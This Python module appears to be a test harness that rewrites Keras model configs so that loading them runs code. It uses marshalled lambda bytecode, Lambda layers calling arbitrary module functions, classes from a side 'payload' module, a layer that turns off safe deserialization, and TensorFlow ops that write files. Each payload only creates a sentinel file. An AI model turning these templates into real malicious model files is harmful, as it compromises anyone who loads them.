"""Changes to the config of a Keras model that make it run code."""

from __future__ import annotations

import base64
import copy
import marshal
from collections.abc import Callable
from typing import Any

# A module that lies beside the model, where `python -m` finds it.
MODULE = "payload"


_FUNCTION = {"class_name": "function", "registered_name": "function"}


_NO_SHAPE = {
    "output_shape": None,
    "output_shape_type": "raw",
    "output_shape_module": None,
}
# A change of a config: gets it and the sentinel's path.
Change = Callable[[dict[str, Any], str], None]


def layer_of(config: dict[str, Any], class_name: str) -> dict[str, Any]:
    """The first layer of a class."""
    layers = config["config"]["layers"]
    return next(x for x in layers if x["class_name"] == class_name)


def instead_of_relu(config, class_name: str, module: str, **fields) -> None:
    """Another layer in the place of an activation, of its name."""
    layer = layer_of(config, "ReLU")
    name = layer["config"]["name"]
    layer.update(
        class_name=class_name,
        module=module,
        registered_name=None if module.startswith("keras") else class_name,
        config={"name": name, "trainable": True, **fields},
    )


def bytecode(sentinel: str) -> str:
    """A marshalled function that makes a file and returns its argument."""
    source = f"lambda x: (open({sentinel!r}, 'w').close(), x)[1]"
    code = eval(source).__code__
    return base64.b64encode(marshal.dumps(code)).decode()


def of_bytecode(config, sentinel: str) -> None:
    """A Lambda of Keras 3."""
    function = {
        "class_name": "__lambda__",
        "config": {
            "code": bytecode(sentinel),
            "defaults": None,
            "closure": None,
        },
    }
    instead_of_relu(
        config, "Lambda", "keras.layers", function=function, arguments={}
    )


def of_bytecode_2(config, sentinel: str) -> None:
    """A Lambda of Keras 2."""
    instead_of_relu(config, "Lambda", "keras.layers")
    layer_of(config, "Lambda")["config"] |= {
        "function": [bytecode(sentinel), None, None],
        "function_type": "lambda",
        "module": "__main__",
        **_NO_SHAPE,
        "arguments": {},
    }


def of_function_2(module: str, name: str, **arguments) -> Change:
    """A Lambda of Keras 2 that is the function of a module."""

    def change(config, sentinel: str) -> None:
        instead_of_relu(config, "Lambda", "keras.layers")
        layer = layer_of(config, "Lambda")
        layer["config"] |= {
            "function": name,
            "function_type": "function",
            "module": module,
            "arguments": _filled(arguments, sentinel),
            **_NO_SHAPE,
        }

    return change


def of_nested_bytecode(config, sentinel: str) -> None:
    """A Lambda inside a layer that wraps another."""
    of_bytecode(config, sentinel)
    inner = copy.deepcopy(layer_of(config, "Lambda"))
    inner["config"]["name"] = "inner"
    layer_of(config, "Lambda").update(
        class_name="TimeDistributed",
        config={
            "name": layer_of(config, "Lambda")["config"]["name"],
            "layer": inner,
        },
    )


def _filled(value: Any, sentinel: str) -> Any:
    if isinstance(value, dict):
        return {k: _filled(v, sentinel) for k, v in value.items()}
    if isinstance(value, str):
        return value.replace("SENTINEL", sentinel)
    return value


def of_function(module: str, name: str, **arguments) -> Change:
    """A Lambda of Keras 3 that is a function which a module has."""

    def change(config, sentinel: str) -> None:
        function = {
            **_FUNCTION,
            "module": module,
            "config": name,
            "registered_name": name,
        }
        instead_of_relu(
            config,
            "Lambda",
            "keras.layers",
            function=function,
            arguments=_filled(arguments, sentinel),
        )

    return change


def activation(module: str, name: str) -> Change:
    """A function of a module as an activation."""

    def change(config, sentinel: str) -> None:
        layer_of(config, "Dense")["config"]["activation"] = {
            **_FUNCTION,
            "module": module,
            "config": name,
            "registered_name": name,
        }

    return change


def of_object(layer: str, field: str) -> Change:
    """An object of a class of another module, in a layer's config."""

    def change(config, sentinel: str) -> None:
        layer_of(config, layer)["config"][field] = {
            "module": MODULE,
            "class_name": "Evil",
            "config": {},
            "registered_name": f"{MODULE}>Evil",
        }

    return change


def bytecode_in(layer: str, field: str) -> Change:
    """A marshalled function in a field of a layer."""

    def change(config, sentinel: str) -> None:
        layer_of(config, layer)["config"][field] = {
            "class_name": "__lambda__",
            "config": {
                "code": bytecode(sentinel),
                "defaults": None,
                "closure": None,
            },
        }

    return change


def of_class(config, sentinel: str) -> None:
    """A layer's class of another module."""
    instead_of_relu(config, "Evil", MODULE)


def of_model_class(config, sentinel: str) -> None:
    """A model's class of another module."""
    config.update(class_name="Evil", module=MODULE, registered_name="Evil")


def enabled_first(config, sentinel: str) -> None:
    """Safe mode is turned off by one layer, for another."""
    of_function("keras.config", "enable_unsafe_deserialization")(
        config, sentinel
    )
    of_bytecode(config, sentinel)


def of_operation(name: str) -> Change:
    """A TensorFlow function as a layer, called with constants."""

    def change(config, sentinel: str) -> None:
        layers = config["config"]["layers"]
        layers.append(
            {
                "class_name": "TFOpLambda",
                "name": "evil",
                "config": {
                    "name": "evil",
                    "trainable": True,
                    "dtype": "float32",
                    "function": name,
                },
                "inbound_nodes": [
                    ["_CONSTANT_VALUE", -1, sentinel, {"contents": "x"}]
                ],
            }
        )
        if name.startswith("raw_ops"):
            layers[-1]["inbound_nodes"] = [
                [
                    "_CONSTANT_VALUE",
                    -1,
                    None,
                    {"filename": sentinel, "contents": "x"},
                ]
            ]

    return change
